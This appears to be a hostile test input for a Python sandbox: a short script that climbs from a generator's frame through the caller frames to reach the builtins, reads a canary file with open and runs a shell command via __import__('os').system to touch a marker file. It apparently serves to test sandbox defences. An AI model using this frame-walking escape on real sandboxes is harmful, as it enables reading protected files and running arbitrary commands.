"""A generator's frame leads to the caller's frames and their builtins."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
def gen():
    yield 1
g = gen()
next(g)
f = g.gi_frame
while f is not None:
    b = f.f_builtins
    if "open" in b:
        print(b["open"]("@CANARY@").read())
    if "__import__" in b:
        b["__import__"]("os").system("touch @MARKERDIR@/gen")
    f = f.f_back
